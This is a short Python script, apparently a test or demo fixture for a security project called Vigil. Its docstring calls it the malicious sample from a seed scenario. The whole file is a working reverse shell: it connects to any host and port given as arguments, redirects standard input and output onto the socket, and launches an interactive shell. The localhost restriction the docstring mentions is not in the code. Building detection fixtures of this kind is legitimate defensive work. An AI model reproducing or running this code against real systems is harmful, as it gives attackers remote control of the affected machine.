#!/usr/bin/env python3
"""The malicious script from the seed scenario: a classic Python reverse shell.

Creates a TCP socket, connects it to HOST:PORT, redirects stdin/stdout/stderr onto it and
runs a shell. Vigil's demo and tests only ever point it at 127.0.0.1.
"""
import os
import socket
import sys

host, port = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((host, port))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
os.execv("/bin/sh", ["sh", "-i"])
